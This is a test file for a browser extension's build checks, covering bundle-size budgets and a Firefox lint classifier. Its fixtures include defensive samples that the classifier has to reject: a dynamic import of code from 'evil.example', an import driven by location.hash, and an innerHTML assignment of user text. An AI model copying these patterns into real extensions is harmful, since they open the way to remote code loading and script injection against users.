// The packaging scripts measure and judge what they claim to.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { checkBudgets, loadedFiles } from '../../scripts/check-bundle-budget.mjs';
import { classify } from '../../scripts/check-firefox-lint.mjs';

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
function fakeBuild(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'hr-build-'));
  dirs.push(dir);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

describe('bundle budget measurement', () => {
  const big = 'x'.repeat(5000) + Math.random().toString(36).repeat(3000);
  const CHART = `import{a}from"./shared-2.js";export default "${big}"`;
  const build = fakeBuild({
    'manifest.json': JSON.stringify({
      action: { default_popup: 'popup.html' },
      content_scripts: [
        {
          matches: ['*://*.tiktok.com/*'],
          js: ['content-scripts/tiktok.js'],
          css: ['content-scripts/tiktok.css'],
        },
        {
          matches: ['https://www.tiktok.com/tiktokstudio*'],
          js: ['content-scripts/tiktok-caption.js'],
        },
      ],
    }),
    'popup.html':
      '<script type="module" crossorigin src="/chunks/popup-1.js"></script>' +
      '<link rel="modulepreload" href="/chunks/shared-2.js"><link rel="stylesheet" href="/assets/popup-3.css">',
    'chunks/popup-1.js':
      'import{a}from"./shared-2.js";const l=()=>import("./chart-4.js");' +
      'const deps=["chunks/chart-4.js","assets/chart-5.css"];console.log("not/a/file.js")',
    'chunks/shared-2.js': 'export const a=1;',
    'chunks/chart-4.js': CHART,
    'assets/popup-3.css': 'body{}',
    'assets/chart-5.css': '.u{}',
    'chunks/options-6.js': 'unrelated',
    'content-scripts/tiktok.js': '(function(){import(chrome.runtime.getURL("/card.js"))})()',
    'card.js': 'export{}',
    'content-scripts/tiktok.css': 'mark{}',
    'content-scripts/tiktok-caption.js': '(function(){})()',
  });

  it('follows the popup through html tags and static imports, up front', () => {
    expect(loadedFiles(build, ['popup.html']).eager).toEqual([
      'assets/popup-3.css',
      'chunks/popup-1.js',
      'chunks/shared-2.js',
      'popup.html',
    ]);
  });

  it('counts dynamic imports, getURL files and preload lists as lazy', () => {
    expect(loadedFiles(build, ['popup.html']).lazy).toEqual([
      'assets/chart-5.css',
      'chunks/chart-4.js',
    ]);
    expect(loadedFiles(build, ['content-scripts/tiktok.js'])).toEqual({
      eager: ['content-scripts/tiktok.js'],
      lazy: ['card.js'],
    });
  });

  it('sums gzip sizes per file and compares what loads up front with the budgets', () => {
    const r = checkBudgets(build);
    expect(r.contentScript.files.map((f) => f.file)).toEqual([
      'content-scripts/tiktok.css',
      'content-scripts/tiktok.js',
    ]);
    expect(r.contentScript.lazy.files.map((f) => f.file)).toEqual(['card.js']);
    const chart = r.popup.lazy.files.find((f) => f.file === 'chunks/chart-4.js')!;
    expect(chart.gzip).toBe(gzipSync(CHART, { level: 9 }).length);
    expect(r.popup.gzip).toBe(r.popup.files.reduce((s, f) => s + f.gzip, 0));
    expect(r.popup.files.map((f) => f.file)).not.toContain('chunks/chart-4.js');
    expect(r.popup.lazy.gzip).toBe(r.popup.lazy.files.reduce((s, f) => s + f.gzip, 0));
    expect(r.popup.budget).toBe(45 * 1024);
    expect(r.contentScript.budget).toBe(12 * 1024);
    // Each content script against its own budget: the assistant never counts against the highlighter.
    expect(r.captionAssistant.files.map((f) => f.file)).toEqual([
      'content-scripts/tiktok-caption.js',
    ]);
    expect(r.captionAssistant.budget).toBe(14 * 1024);
  });

  it('refuses a content script without a budget', () => {
    const unknown = fakeBuild({
      'manifest.json': JSON.stringify({
        action: { default_popup: 'popup.html' },
        content_scripts: [{ js: ['content-scripts/other.js'] }],
      }),
      'popup.html': '<html></html>',
      'content-scripts/other.js': '',
    });
    expect(() => checkBudgets(unknown)).toThrow(/without a budget: content-scripts\/other\.js/);
  });
});

describe('Firefox lint judgement', () => {
  const build = fakeBuild({
    'chunks/jsxRuntime-abc.js': 'x;m?(l||(_.innerHTML=m.__html)):0;el.innerHTML=userText;',
  });
  const innerHtmlAt = (column: number) => ({
    code: 'UNSAFE_VAR_ASSIGNMENT',
    file: 'chunks/jsxRuntime-abc.js',
    line: 1,
    column,
  });

  it("accepts only Preact's own dangerouslySetInnerHTML assignment", () => {
    const preact = 'x;m?(l||(_.innerHTML=m.__html)):0;'.indexOf('_.innerHTML') + 1;
    const ours = 'x;m?(l||(_.innerHTML=m.__html)):0;el.innerHTML'.indexOf('el.innerHTML') + 1;
    const { accepted, problems } = classify(build, {
      errors: [],
      warnings: [innerHtmlAt(preact), innerHtmlAt(ours)],
      notices: [],
    });
    expect(accepted.map((m) => m.column)).toEqual([preact]);
    expect(problems.map((m) => m.column)).toEqual([ours]);
  });

  it('accepts a lazy import of a packaged file, not of any other URL', () => {
    const cs = fakeBuild({
      'content-scripts/tiktok.js':
        'const h=()=>s??=import(R.runtime.getURL(Ne));const k=()=>import(location.hash.slice(1));' +
        'const c=()=>import(n.runtime.getURL("/tiktok-card.js"));' +
        'const r=()=>import(n.runtime.getURL("https://evil.example/x.js"));',
    });
    const text = readFileSync(join(cs, 'content-scripts/tiktok.js'), 'utf8');
    const at = (needle: string) => ({
      code: 'UNSAFE_VAR_ASSIGNMENT',
      file: 'content-scripts/tiktok.js',
      line: 1,
      column: text.indexOf(needle) + 1,
    });
    const { accepted, problems } = classify(cs, {
      errors: [],
      warnings: [
        at('import(R.runtime'),
        at('import(location'),
        at('import(n.runtime.getURL("/'),
        at('import(n.runtime.getURL("https'),
      ],
      notices: [],
    });
    expect(accepted).toHaveLength(2);
    expect(problems.map((m) => m.column)).toEqual([
      at('import(location').column,
      at('import(n.runtime.getURL("https').column,
    ]);
  });

  it('fails on every error and on any other warning or notice', () => {
    const { accepted, problems } = classify(build, {
      errors: [{ code: 'MANIFEST_FIELD_INVALID', file: 'manifest.json' }],
      warnings: [{ code: 'MISSING_DATA_COLLECTION_PERMISSIONS', file: 'manifest.json' }],
      notices: [{ code: 'SOMETHING', file: 'chunks/jsxRuntime-abc.js', line: 1, column: 1 }],
    });
    expect(accepted).toEqual([]);
    expect(problems.map((m) => m.code)).toEqual([
      'MANIFEST_FIELD_INVALID',
      'MISSING_DATA_COLLECTION_PERMISSIONS',
      'SOMETHING',
    ]);
  });
});
